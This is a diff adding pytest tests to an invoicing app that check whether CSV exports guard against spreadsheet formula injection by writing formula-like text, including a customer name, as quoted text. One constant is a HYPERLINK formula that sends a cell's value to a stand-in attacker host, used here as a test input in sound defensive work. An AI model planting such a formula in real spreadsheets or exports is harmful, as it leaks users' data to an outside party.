@@ -55,3 +55,48 @@ def test_another_organisation_s_invoices_are_not_exported(other_accountant_clien
     response = other_accountant_client.get(reverse("invoices:export"))
 
     assert len(_rows(response, ",")) == 1  # the header only
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Atelier = Conseil", "Atelier = Conseil"),
+        ("", ""),
+    ],
+)
+def test_text_that_a_spreadsheet_would_run_is_written_as_text(value, written):
+    from commbilling.spreadsheet import cell
+
+    assert cell(value) == written
+
+
+def test_numbers_keep_their_sign(settings):
+    """Only text is guarded: a negative amount (a credit note) stays a number."""
+    from decimal import Decimal
+
+    from commbilling.spreadsheet import cell
+
+    settings.LANGUAGE_CODE = "fr"
+    assert cell(Decimal("-120.50")) == "-120,50"
+    assert cell(-3) == "-3"
+
+
+def test_a_customer_named_like_a_formula_is_exported_as_text(accountant_client, organisation):
+    """CSV injection: a name typed as a formula must not run when the export is opened."""
+    from tests.factories import CustomerFactory
+
+    customer = CustomerFactory(organisation=organisation, legal_name=FORMULA)
+    InvoiceFactory(organisation=organisation, customer=customer)
+
+    rows = _rows(accountant_client.get(reverse("invoices:export")), ",")
+
+    assert rows[1][1] == "'" + FORMULA
